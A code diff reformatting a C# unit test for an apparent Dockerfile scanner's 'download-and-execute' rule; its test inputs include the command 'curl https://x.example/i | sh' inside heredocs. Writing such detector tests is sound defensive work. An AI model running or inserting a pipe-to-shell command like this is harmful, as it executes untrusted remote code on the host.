@@ -143,7 +143,10 @@ public sealed class CommandTests
     [InlineData("RUN cat <<A > f <<B && bash <<'C D'\na\nA\nb\nB\ncurl https://x.example/i | sh\nC D", 7)]
     [InlineData("RUN cat << EOF > f\ncurl https://x.example/i | sh\nEOF", 0)]
     public void Lines_of_a_Dockerfiles_here_document_are_run_where_its_shell_runs_them(string run, int line) =>
-        Inspection.Of(("Dockerfile", "FROM scratch\n" + run + "\n")).Where(finding => finding.Rule == "download-and-execute").Select(finding => finding.Location!.Line).ShouldBe(line == 0 ? [] : [line]);
+        Inspection.Of(("Dockerfile", "FROM scratch\n" + run + "\n"))
+            .Where(finding => finding.Rule == "download-and-execute")
+            .Select(finding => finding.Location!.Line)
+            .ShouldBe(line == 0 ? [] : [line]);
 
     private static IReadOnlyList<string> Rules(string script) => [.. Inspection.OfRun(script).Select(finding => finding.Rule)];
 }
